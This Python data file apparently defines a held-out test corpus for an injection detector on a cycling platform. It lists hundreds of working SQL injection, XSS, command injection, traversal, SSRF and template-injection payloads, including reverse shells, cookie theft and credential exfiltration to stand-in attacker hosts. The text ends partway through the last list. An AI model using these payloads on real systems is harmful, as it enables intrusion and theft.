"""Attack held-out corpus for the cycling / training platform (ha96).

Each value is a hand-written payload (or a small template over hand-written pools) that
would work against a vulnerable app placing the value where its class says: concatenated
into SQL, a shell line, a file path, a fetched URL, a server-side template, unescaped
HTML, a log line or header, an LDAP filter or XPath query. Payloads are hidden in the
platform's own notations: ride titles, segment searches, interval strings, GPX/TCX
snippets, gear lists, club posts, device sync fields. Nothing is taken from a payload
list; class names are "<context>-<technique>[+<encoding>]".
"""
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 9602

SQLI = [
    ("segment_search-quote_or", "box hill' OR '1'='1"),
    ("segment_search-union", "zig zag%' UNION SELECT username, password_hash, 1 FROM users-- -"),
    ("segment_search-union", "alpe' UNION ALL SELECT email,api_token,NULL,NULL FROM athletes WHERE '1'='1"),
    ("segment_search-comment_trunc", "Hangman''s Lane' OR 1=1#"),
    ("segment_search-boolean_blind", "col du' AND SUBSTRING((SELECT password FROM admins LIMIT 1),1,1)='a' AND 'x%'='x"),
    ("segment_search-time_blind", "stelvio' AND SLEEP(6) AND 'a'='a"),
    ("segment_search-time_blind", "angliru'; SELECT pg_sleep(7)--"),
    ("segment_search-time_blind", "Mur de Huy'; WAITFOR DELAY '0:0:8'--"),
    ("segment_search-error_based", "koppenberg' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version()),0x7e)) AND '1"),
    ("segment_search-error_based", "ventoux' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("segment_search-stacked", "union st sprint'; DROP TABLE segment_efforts;--"),
    ("segment_search-stacked", "box hill'; UPDATE athletes SET role='admin' WHERE handle='spinner42';--"),
    ("leaderboard_filter-numeric_or", "40 OR 1=1"),
    ("leaderboard_filter-numeric_union", "2024 UNION SELECT id, email, password_hash, 4 FROM users"),
    ("leaderboard_filter-order_by", "elapsed_time, (CASE WHEN (SELECT COUNT(*) FROM admins)>0 THEN 1 ELSE 1/0 END)"),
    ("leaderboard_filter-order_by", "watts DESC, IF((SELECT 1 FROM users WHERE id=1 AND role='admin'),SLEEP(5),0)"),
    ("leaderboard_filter-limit_procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,user())),1)"),
    ("ride_title-insert_subquery", "Morning Ride', (SELECT string_agg(token, ',') FROM oauth_tokens))--"),
    ("ride_title-insert_subquery", "Sweet spot 3x15', (SELECT password_hash FROM users WHERE id=1), 'x')-- "),
    ("ride_description-update_set", "Legs toast', is_admin=1 WHERE athlete_id=77-- "),
    ("ftp_field-numeric_boolean", "265 AND (SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')=1"),
    ("ftp_field-numeric_time", "265-(SELECT 1 FROM pg_sleep(6))"),
    ("ftp_field-numeric_stacked", "272; INSERT INTO admins(user_id) VALUES (4242)"),
    ("hr_zone-numeric_union", "150) UNION SELECT table_name, column_name FROM information_schema.columns--"),
    ("workout_name-quote_or", "5x(4min @ 105% / 3min @ 55%)' OR 'a'='a"),
    ("workout_name-union", "2x20') UNION SELECT name, sql FROM sqlite_master--"),
    ("workout_name-sqlite_blind", "Over-unders' AND (SELECT substr(sql,1,1) FROM sqlite_master LIMIT 1)='C'--"),
    ("gpx_name-xml_attr_sqli", "<name>Alpe' || (SELECT api_key FROM integrations LIMIT 1) || '</name>"),
    ("gpx_filename-quote_or", "sportive_final'OR'1'='1.gpx"),
    ("club_id-numeric_union", "-1 UNION SELECT NULL, current_user, version(), NULL"),
    ("club_id-numeric_boolean", "17 AND ASCII(SUBSTRING(current_database(),1,1))>100"),
    ("event_signup-oracle_union", "B-group' UNION SELECT username, password FROM all_users WHERE ROWNUM=1 AND 'a'='a"),
    ("event_signup-oracle_error", "A' AND 1=UTL_INADDR.GET_HOST_NAME((SELECT user FROM dual))--"),
    ("event_signup-oracle_time", "C' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',7)--"),
    ("gear_search-like_wildcard", "172.5 mm cranks%' AND 1=(SELECT COUNT(*) FROM users WHERE password LIKE '$2b$%') AND '%'='"),
    ("gear_search-union_hex", "53/39' UNION SELECT 0x61646d696e,0x70617373--"),
    ("device_serial-stacked_mssql", "EDGE-530-7741'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.9';--"),
    ("device_serial-outofband_mssql", "1040'; EXEC master..xp_dirtree '\\\\sqlx.attacker.example\\a';--"),
    ("device_serial-outofband_mysql", "K3-0091' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT user()),'.oob.attacker.example\\\\x')) AND '1"),
    ("sync_log-into_outfile", "x' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/shell.php'-- "),
    ("segment_search-postgres_copy", "ventoux'; COPY (SELECT '') TO PROGRAM 'curl 198.51.100.4/s|sh';--"),
    ("segment_search-postgres_cast", "galibier' AND 1=CAST((SELECT password_hash FROM users LIMIT 1) AS int)--"),
    ("comment-second_order", "Chapeau!' ); DELETE FROM kudos WHERE '1'='1"),
    ("athlete_handle-second_order", "admin'-- "),
    ("athlete_handle-quote_or", "k.o'brien' OR ''='"),
    ("login_email-auth_bypass", "coach@example.org' OR 1=1 LIMIT 1-- -"),
    ("login_email-auth_bypass", "' OR 'x'='x' /* rider */"),
    ("lap_index-boolean_blind", "3 AND 1=(SELECT CASE WHEN (SUBSTR(USER,1,1)='S') THEN 1 ELSE 0 END FROM dual)"),
    ("route_sort-json_func", "distance, JSON_EXTRACT((SELECT secrets FROM config), '$.stripe')"),
    ("segment_search-union+case_mix", "BoX hIlL' uNiOn SeLeCt PaSsWoRd_HaSh, 1 FrOm UsErS-- -"),
    ("segment_search-union+comment_space", "alpe'/**/UNION/**/SELECT/**/email,password_hash/**/FROM/**/users#"),
    ("segment_search-union+versioned_comment", "ventoux' /*!50000UNION*/ /*!50000SELECT*/ user(),2-- -"),
    ("segment_search-quote_or+urlenc", "box%20hill%27%20OR%20%271%27%3D%271"),
    ("segment_search-time_blind+double_urlenc", "stelvio%2527%2520AND%2520SLEEP%25286%2529--%2520-"),
    ("ride_title-quote_or+unicode_homoglyph", "Recovery spin\u02bc OR 1=1--"),
    ("ride_title-boolean+hex_literal", "Tempo' AND (SELECT 1 FROM users WHERE username=0x61646d696e)=1-- "),
    ("interval_name-quote_or+char_func", "VO2' OR name=CHAR(97,100,109,105,110)-- "),
    ("plain-quote_or", "' OR '1'='1' -- "),
    ("plain-union", "' UNION SELECT null, table_name FROM information_schema.tables-- "),
    ("plain-time_blind", "1' AND (SELECT 5 FROM (SELECT(SLEEP(5)))a)-- x"),
    ("plain-stacked", "1; DROP TABLE rides"),
    ("plain-boolean_blind", "x' AND 2>1 AND 'q'='q"),
    ("plain-error_based", "1 AND updatexml(1,concat(0x7e,database()),1)"),
    ("plain-auth_bypass", "admin'#"),
]

XSS = [
    ("ride_title-script_tag", "Morning Ride <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
    ("ride_title-img_onerror", "Lunch loop <img src=x onerror=alert(document.domain)>"),
    ("ride_title-svg_onload", "Col du Galibier <svg onload=\"navigator.sendBeacon('https://attacker.example/k',localStorage.token)\">"),
    ("ride_description-iframe_srcdoc", "Great ride!<iframe srcdoc=\"<script>parent.location='https://attacker.example/'+parent.document.cookie</script>\"></iframe>"),
    ("ride_description-details_ontoggle", "Pacing notes:<details open ontoggle=alert(1)><summary>sector 11</summary></details>"),
    ("ride_description-body_onpageshow", "Rain, rain & more rain <body onpageshow=alert('xss')>"),
    ("ride_description-video_source", "Onboard cam: <video><source onerror=\"eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))\"></video>"),
    ("segment_name-attr_breakout", "Box Hill\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("segment_name-attr_breakout", "Drop Dead Hill' autofocus onfocus='fetch(`//attacker.example/?${document.cookie}`)"),
    ("segment_name-tag_breakout", "Union St. sprint</title><script src=https://attacker.example/x.js></script>"),
    ("segment_name-textarea_breakout", "Angliru final 6 km</textarea><img src=1 onerror=alert(7)>"),
    ("segment_search-js_string_breakout", "alpe';alert(String.fromCharCode(88,83,83));//"),
    ("segment_search-js_string_breakout", "stelvio\\\";document.location='https://attacker.example/?c='+document.cookie;//"),
    ("segment_search-template_literal", "koppenberg`;fetch('//attacker.example/'+document.cookie);`"),
    ("club_post-a_href_javascript", "Route for Sunday: <a href=\"javascript:fetch('//attacker.example/?'+document.cookie)\">98 km / 1,240 m</a>"),
    ("club_post-markdown_link", "Sign up here: [Winter series form](javascript:alert(document.domain))"),
    ("club_post-markdown_image", "![route map](x\" onerror=\"alert(1))"),
    ("club_post-form_action", "Kit order: <form action=https://attacker.example/collect><input name=card placeholder='Card number'><button>Pay €65</button></form>"),
    ("club_post-meta_refresh", "Ride cancelled <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("club_post-base_href", "<base href=\"https://attacker.example/\">AGM Tue 19:00"),
    ("club_post-object_data", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("comment-img_onerror", "Chapeau! 💪<img src=/ onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("comment-svg_animate", "Kudos!<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("comment-style_expression", "Nice one<div style=\"background:url('javascript:alert(1)')\">x</div>"),
    ("comment-input_autofocus", "Bravo <input autofocus onfocus=alert(document.cookie)>"),
    ("comment-marquee_onstart", "¡Qué máquina! <marquee onstart=alert(1)>🚴</marquee>"),
    ("comment-math_href", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("comment-noscript_mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("gpx_desc-cdata_script", "<desc><![CDATA[</desc><script>alert(document.cookie)</script>]]></desc>"),
    ("gpx_name-svg_upload", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(origin)</script><text>Route map</text></svg>"),
    ("gpx_name-xhtml_namespace", "<name><html:script xmlns:html=\"http://www.w3.org/1999/xhtml\">alert(1)</html:script></name>"),
    ("workout_name-script_tag", "5x(4min @ 105%)<script>new Image().src='//attacker.example/w?'+document.cookie</script>"),
    ("workout_name-onerror_plain", "Sweet spot 90' <img src=x:x onerror=prompt(1)>"),
    ("gear_list-attr_unquoted", "172.5 mm cranks onmouseenter=alert(1)"),
    ("gear_list-style_tag", "53/39 x 11-28<style>@import 'https://attacker.example/x.css';</style>"),
    ("device_name-dom_innerhtml", "Edge 530<img src=x onerror=import('//attacker.example/m.js')>"),
    ("device_name-json_script_breakout", "Kickr Core</script><script>alert(document.domain)</script>"),
    ("sync_error-log_viewer", "Upload error: <img src=x onerror=\"fetch('/api/admin/users').then(r=>r.text()).then(t=>fetch('//attacker.example',{method:'POST',body:t}))\">"),
    ("profile_website-javascript_url", "javascript:alert(document.cookie)//https://mycycling.example"),
    ("profile_website-data_url", "data:text/html,<script>alert(document.domain)</script>"),
    ("profile_avatar-svg_href", "<svg><a xlink:href=\"javascript:alert(1)\"><rect width=100 height=100 /></a></svg>"),
    ("club_post-angular_expression", "Saturday ride {{constructor.constructor('alert(1)')()}} meet 8:30"),
    ("club_post-vue_template", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("segment_name-javascript_url+html_entities", "Box Hill &lt;script&gt;alert(1)&lt;/script&gt; <a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">leaderboard</a>"),
    ("ride_title-javascript_url+html_entities_hex", "<a href=\"&#x6a;avascript&#x3a;alert(document.cookie)\">Col du Galibier</a>"),
    ("ride_title-javascript_url+tab_entity", "<a href=\"jav&#x09;ascript:alert(1)\">Alpe d'Huez 58:40</a>"),
    ("comment-script_tag+urlenc", "Chapeau%21%20%3Cscript%3Ealert%28document.cookie%29%3C%2Fscript%3E"),
    ("comment-img_onerror+double_urlenc", "%253Cimg%2520src%253Dx%2520onerror%253Dalert%25281%2529%253E"),
    ("comment-img_onerror+unicode_escape", "\\u003cimg src=x onerror=alert(1)\\u003e nice ride"),
    ("comment-script_tag+case_mix", "<ScRiPt>alert(1)</sCrIpT> kudos!"),
    ("segment_search-script_tag+null_byte", "<scr\u0000ipt>alert(1)</scr\u0000ipt>"),
    ("segment_name-nested_strip", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("ride_title-slash_separator", "<svg/onload=alert`1`>"),
    ("ride_title-script_tag+fullwidth", "＜script＞alert(1)＜/script＞ TT practice"),
    ("leaderboard_row-athlete_name_stored", "Jess \"KOM\" Park<img src=x onerror=\"document.querySelectorAll('form').forEach(f=>f.action='//attacker.example/f')\">"),
    ("segment_search-reflected_param", "'-alert(document.domain)-'"),
    ("interval_label-svg_use", "VO2 5x5 <svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
    ("club_post-link_import_css", "Photos from the Ardennes trip <link rel=stylesheet href=//attacker.example/steal.css>"),
    ("device_name-dom_clobber", "<form id=config><input name=apiBase value=https://attacker.example></form>Edge 840"),
    ("ride_description-event_ontransition", "<p style=\"transition:color 1s\" ontransitionend=alert(1) id=p>Legs toast</p><style>#p{color:red}</style>"),
    ("plain-script_tag", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg_onload", "<svg onload=alert(document.domain)>"),
    ("plain-attr_breakout", "\"><script>alert(1)</script>"),
    ("plain-javascript_url", "javascript:alert(1)"),
    ("plain-iframe", "<iframe src=javascript:alert(1)>"),
    ("plain-body_onload", "<body onload=alert(1)>"),
    ("plain-a_href", "<a href=\"javascript:alert(1)\">x</a>"),
]

CMDI = [
    ("gpx_convert-semicolon", "ride.gpx; cat /etc/passwd"),
    ("gpx_convert-semicolon", "sportive_final_v3.gpx;curl -s https://attacker.example/p.sh|sh"),
    ("gpx_convert-pipe", "Alpe_dHuez.gpx | nc 203.0.113.7 4444 -e /bin/sh"),
    ("gpx_convert-and", "route_small.gpx && wget -qO- http://198.51.100.23/x | bash"),
    ("gpx_convert-or", "nonexistent.gpx || id > /tmp/o"),
    ("gpx_convert-backtick", "Etape5_`whoami`.gpx"),
    ("gpx_convert-dollar_paren", "Flanders_$(uname -a).gpx"),
    ("gpx_convert-newline", "winter_loop.gpx\ncurl http://attacker.example/$(hostname)"),
    ("gpx_convert-option_injection", "--output=/var/www/html/s.php ride.gpx"),
    ("gpsbabel_filter-arg_injection", "simplify,count=500 -o gpx -F /etc/cron.d/x"),
    ("gpsbabel_filter-semicolon", "simplify,count=500; rm -rf /srv/uploads/*"),
    ("fit_import-dollar_paren", "2024-09-14-07-02-11.fit$(sleep 9)"),
    ("fit_import-ifs", "ride.fit;cat${IFS}/etc/shadow"),
    ("fit_import-brace_expansion", "ride.fit;{cat,/etc/passwd}"),
    ("fit_import-ifs_redirect", "a.fit;curl${IFS}-d@/etc/passwd${IFS}attacker.example"),
    ("device_name-reverse_shell", "Edge 530; bash -i >& /dev/tcp/203.0.113.50/9001 0>&1"),
    ("device_name-python_shell", "Karoo 3 $(python3 -c 'import socket,os;s=socket.create_connection((\"198.51.100.8\",443));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.system(\"/bin/sh\")')"),
    ("device_name-perl", "Bolt v2`perl -e 'system(\"id\")'`"),
    ("ant_stick-usb_path", "/dev/ttyUSB0; chmod 4755 /bin/bash"),
    ("ant_stick-backtick", "/dev/ttyACM`id -u`"),
    ("firmware_url-semicolon", "https://firmware.example.org/edge/28.04.fit; wget http://attacker.example/implant -O /tmp/i; chmod +x /tmp/i; /tmp/i"),
    ("route_export-ping_timing", "Tour_du_Mont_Blanc_v2; ping -c 10 127.0.0.1"),
    ("route_export-dns_exfil", "Gavia_loop && nslookup $(whoami).cmd.attacker.example"),
    ("route_export-dns_exfil", "Ventoux|dig +short `cat /etc/hostname`.oob.attacker.example"),
    ("map_render-imagemagick", "route.png' -write /var/www/html/x.php '"),
    ("elevation_tool-subshell", "--dem=srtm; (sleep 8)"),
    ("elevation_tool-amp_background", "ride.gpx & curl -X POST --data-binary @/app/.env https://attacker.example/e &"),
    ("thumbnail-ffmpeg_arg", "onboard.mp4 -f rawvideo -i /etc/passwd out.txt"),
    ("workout_export-redirect", "5x4min_105.zwo > /var/www/html/index.html"),
    ("workout_export-redirect_append", "sweetspot.erg; echo 'ssh-ed25519 AAAAC3Nza attacker@example' >> /root/.ssh/authorized_keys"),
    ("strava_bulk-tar_checkpoint", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
    ("strava_bulk-zip_option", "export.zip -TT 'sh -c id'"),
    ("gear_note-backtick", "172.5 mm cranks `curl attacker.example/g|sh`"),
    ("git_sync-ssh_command", "-oProxyCommand=sh -c 'id>/tmp/p' x"),
    ("git_sync-ext_protocol", "ext::sh -c touch% /tmp/pwned"),
    ("powershell_host-subexpression", "Flanders_2024.gpx; $(Invoke-WebRequest -Uri http://203.0.113.5/a.ps1 -UseBasicParsing | iex)"),
    ("powershell_host-call_op", "route.gpx'; & calc.exe; '"),
    ("windows_host-ampersand", "Saturday_A_group.gpx & type C:\\Windows\\win.ini"),
    ("windows_host-pipe", "ride.tcx | net user ridr Pa55-fake-123 /add"),
    ("windows_host-ampersand+caret_escape", "ride.gpx & w^h^o^a^m^i"),
    ("windows_host-env_substring", "ride.gpx & %COMSPEC:~0,1%%COMSPEC:~-7,-4%"),
    ("tcx_parse-xargs", "ride.tcx; find / -name '*.env' | xargs cat"),
    ("sync_hook-env_dump", "webhook; env | curl -d @- attacker.example"),
    ("sync_hook-semicolon+base64", "ok;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3N8c2g= | base64 -d | sh"),
    ("sync_hook-dollar_paren+hex_escape", "ok;$(printf '\\x69\\x64')"),
    ("segment_name-quote_breakout", "Box Hill'; touch /tmp/kom; echo '"),
    ("segment_name-dquote_breakout", "Drop Dead Hill\"; sleep 7; echo \""),
    ("club_logo-wildcard_glob", "logo.png;/???/??t /???/p??s??"),
    ("club_logo-variable_concat", "logo.png;a=ca;b=t;$a$b /etc/passwd"),
    ("ride_title-semicolon+quote_split", "Morning;w'h'o'am'i"),
    ("ride_title-semicolon+empty_var", "Lunch;c$@at /e$@tc/pa$@sswd"),
    ("gpx_convert-semicolon+urlenc", "ride.gpx%3B%20cat%20%2Fetc%2Fpasswd"),
    ("gpx_convert-semicolon+double_urlenc", "ride.gpx%253Bid%253E%252Ftmp%252Fx"),
    ("gpx_convert-newline+urlenc", "sportive.gpx%0Aid"),
    ("gpx_convert-process_subst", "ride.gpx <(curl -s attacker.example/c)"),
    ("fit_import-heredoc_newline", "ride.fit\nsh <<EOF\nid > /tmp/h\nEOF"),
    ("workout_export-awk_system", "2x20.zwo; awk 'BEGIN{system(\"id\")}'"),
    ("route_export-sed_exec", "Gavia.gpx; sed -n '1e id' /etc/hostname"),
    ("map_render-find_exec", "tiles -exec sh -c 'curl attacker.example' ;"),
    ("device_name-tr_decode", "Roam;$(echo 'vq' | tr 'a-z' 'b-za')"),
    ("plain-semicolon", "; id"),
    ("plain-pipe", "| cat /etc/passwd"),
    ("plain-dollar_paren", "$(id)"),
    ("plain-backtick", "`uname -a`"),
    ("plain-and", "&& whoami"),
    ("plain-newline", "\nid"),
    ("plain-or", "|| ping -c 5 203.0.113.1"),
]

TRAVERSAL = [
    ("route_download-dotdot", "../../../../etc/passwd"),
    ("route_download-dotdot", "../../../../../../root/.ssh/id_rsa"),
    ("route_download-dotdot_ext", "../../../../etc/shadow%00.gpx"),
    ("route_download-dotdot_ext", "../../../app/config/settings.py#.gpx"),
    ("route_download-absolute", "/etc/passwd"),
    ("route_download-absolute", "/proc/self/environ"),
    ("route_download-absolute", "/var/lib/postgresql/data/pg_hba.conf"),
    ("gpx_upload_name-dotdot_write", "../../../../var/www/html/shell.php"),
    ("gpx_upload_name-dotdot_write", "../../.ssh/authorized_keys"),
    ("gpx_upload_name-cron_write", "../../../../etc/cron.d/sync"),
    ("club_route_folder-relative", "../shared/club_routes/../../../../etc/hosts"),
    ("club_route_folder-nested_strip", "....//....//....//....//etc/passwd"),
    ("club_route_folder-nested_strip", "..././..././..././etc/passwd"),
    ("fit_file-windows_backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("fit_file-windows_backslash", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("fit_file-windows_absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("fit_file-unc_path", "\\\\203.0.113.12\\share\\ride.fit"),
    ("avatar-proc_fd", "/proc/self/fd/3"),
    ("avatar-proc_cmdline", "../../../../proc/1/cmdline"),
    ("export_zip-zip_slip", "rides/../../../../../tmp/evil.sh"),
    ("export_zip-zip_slip", "2024/../../../../home/app/.bashrc"),
    ("template_theme-dotdot", "themes/../../../../app/.env"),
    ("template_theme-dotdot", "club_dark/../../../../../var/log/nginx/access.log"),
    ("locale_param-dotdot", "../../../../../usr/share/zoneinfo/../../../etc/passwd"),
    ("static_asset-dotdot_mix", "img/..\\..\\..\\..\\etc/passwd"),
    ("route_download-dotdot+urlenc", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("route_download-dotdot+urlenc_dots", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow"),
    ("route_download-dotdot+double_urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("route_download-dotdot+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("route_download-dotdot+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("route_download-dotdot+unicode_u_escape", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("fit_file-windows_backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("gpx_include-file_scheme", "file:///etc/passwd"),
    ("gpx_include-file_scheme", "file:///C:/Users/Public/../../Windows/win.ini"),
    ("php_app-wrapper_filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("tile_cache-dotdot", "tiles/14/8583/../../../../../../../etc/passwd"),
    ("activity_photo-dotdot_semicolon", "..;/..;/..;/WEB-INF/web.xml"),
    ("activity_photo-java_webinf", "/static/../WEB-INF/classes/application.properties"),
    ("gpx_upload_name-dotdot_htaccess", "../../public/.htaccess"),
    ("route_download-dotdot_absolute_mix", "/srv/routes/../../../etc/group"),
    ("club_logo-dotdot_git", "../../../../app/.git/config"),
    ("plain-dotdot", "../../../etc/passwd"),
    ("plain-windows", "..\\..\\..\\boot.ini"),
    ("plain-absolute", "/etc/shadow"),
    ("plain-deep_dotdot", "../../../../../../../../windows/win.ini"),
]

SSRF = [
    ("route_import_url-cloud_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("route_import_url-cloud_metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("route_import_url-cloud_metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
    ("route_import_url-cloud_metadata_v6", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("route_import_url-loopback", "http://127.0.0.1:6379/"),
    ("route_import_url-loopback", "http://localhost:9200/_cat/indices"),
    ("route_import_url-loopback_admin", "http://127.0.0.1:8080/admin/users?export=csv"),
    ("route_import_url-internal_host", "http://postgres.internal:5432/"),
    ("route_import_url-internal_host", "http://10.0.0.12:2375/containers/json"),
    ("route_import_url-internal_host", "http://192.168.1.1/cgi-bin/luci"),
    ("route_import_url-kubelet", "https://10.96.0.1/api/v1/namespaces/kube-system/secrets"),
    ("webhook_url-gopher_redis", "gopher://127.0.0.1:6379/_SET%20k%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ASAVE%0D%0A"),
    ("webhook_url-dict_scheme", "dict://127.0.0.1:11211/stats"),
    ("webhook_url-file_scheme", "file:///app/config/secrets.yml"),
    ("webhook_url-ftp_internal", "ftp://10.0.0.5/backups/db.sql"),
    ("webhook_url-ldap_scheme", "ldap://127.0.0.1:389/dc=internal"),
    ("webhook_url-userinfo_confusion", "https://tracks.example.org@169.254.169.254/latest/user-data"),
    ("webhook_url-userinfo_confusion", "http://strava.example.com:443@127.0.0.1:8500/v1/agent/self"),
    ("webhook_url-fragment_confusion", "http://127.0.0.1:2379/v2/keys/?recursive=true#@routes.example.org"),
    ("webhook_url-dns_rebind", "http://rebind.attacker.example/latest/meta-data/"),
    ("webhook_url-nip_wildcard", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("webhook_url-redirect", "https://attacker.example/r?to=http://169.254.169.254/latest/meta-data/"),
    ("gpx_link-href_internal", "<link href=\"http://127.0.0.1:15672/api/users\"><text>Route info</text></link>"),
    ("strava_callback-internal", "http://internal-billing.svc.cluster.local/api/refund?all=1"),
    ("avatar_url-loopback+decimal_ip", "http://2130706433/"),
    ("avatar_url-loopback+decimal_ip", "http://2852039166/latest/meta-data/"),
    ("avatar_url-loopback+hex_ip", "http://0x7f000001:8080/actuator/env"),
    ("avatar_url-loopback+octal_ip", "http://0177.0.0.1/server-status"),
    ("avatar_url-loopback+short_ip", "http://127.1:9000/"),
    ("avatar_url-zero_ip", "http://0.0.0.0:8000/debug"),
    ("avatar_url-ipv6_mapped", "http://[::ffff:127.0.0.1]:6379/"),
    ("avatar_url-ipv6_loopback", "http://[::1]:5984/_all_dbs"),
    ("avatar_url-cloud_metadata+mixed_hex_octal", "http://0xa9.0376.0xa9.0376/latest/meta-data/"),
    ("avatar_url-loopback+urlenc", "http://%31%32%37%2e%30%2e%30%2e%31/admin"),
    ("avatar_url-loopback+ideographic_dots", "http://127。0。0。1/admin"),
    ("avatar_url-file_scheme+case_mix", "FiLe:///etc/hosts"),
    ("map_tiles-template_host", "http://localhost:8983/solr/admin/cores?action=STATUS&z={z}&x={x}&y={y}"),
    ("club_calendar-ics_import", "webcal://127.0.0.1:8088/ws/v1/cluster/apps"),
    ("sync_callback-jar_scheme", "jar:http://attacker.example/x.zip!/route.gpx"),
    ("sync_callback-netdoc", "netdoc:///etc/passwd"),
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-loopback", "http://127.0.0.1/"),
    ("plain-localhost_port", "http://localhost:22/"),
    ("plain-file_scheme", "file:///etc/hosts"),
]

CODE = [
    ("ride_title-jinja_ssti", "Morning Ride {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ride_title-jinja_ssti", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example|sh') }}"),
    ("ride_description-jinja_config", "Legs toast {{ config.items() }}"),
    ("ride_description-jinja_subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("club_post-jinja_attr_filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("club_post-jinja_block", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{ x()._module.__builtins__['__import__']('os').popen('ls /').read() }}{% endif %}{% endfor %}"),
    ("workout_name-twig_ssti", "{{['id']|filter('system')}}"),
    ("workout_name-twig_ssti", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("segment_name-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("segment_name-velocity", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('touch /tmp/v')"),
    ("segment_name-thymeleaf_spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("gear_list-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("gear_list-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("gear_list-el_jsp", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("club_post-erb_ssti", "Saturday 8:30 <%= `id` %>"),
    ("club_post-erb_ssti", "<%= File.read('/etc/passwd') %>"),
    ("club_post-handlebars_proto", "{{#with \"s\" as |string|}}{{#with (string.sub.apply 0 \"constructor\")}}{{this}}{{/with}}{{/with}}"),
    ("comment-mako_ssti", "Chapeau ${__import__('os').popen('id').read()}"),
    ("comment-smarty_ssti", "{system('cat /etc/passwd')}"),
    ("comment-tornado_ssti", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("comment-pug_ssti", "#{root.process.mainModule.require('child_process').execSync('id')}"),
    ("comment-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("comment-ejs_outputfn", "<%= global.process.mainModule.require('child_process').execSync('uname') %>"),
    ("comment-go_template", "{{ .Env }}{{ printf \"%s\" .Secrets }}"),
    ("sync_log-log4shell", "${jndi:ldap://203.0.113.44:1389/a}"),
    ("sync_log-log4shell", "Edge 530 ${jndi:rmi://attacker.example/Exploit}"),
    ("sync_log-log4shell+nested_lookup", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("sync_log-log4shell+default_lookup", "${${::-j}${::-n}${::-d}${::-i}:dns://log.attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("device_name-log4shell", "Bolt v2 ${jndi:ldaps://${hostName}.oob.attacker.example/z}"),
    ("sync_log-text4shell", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
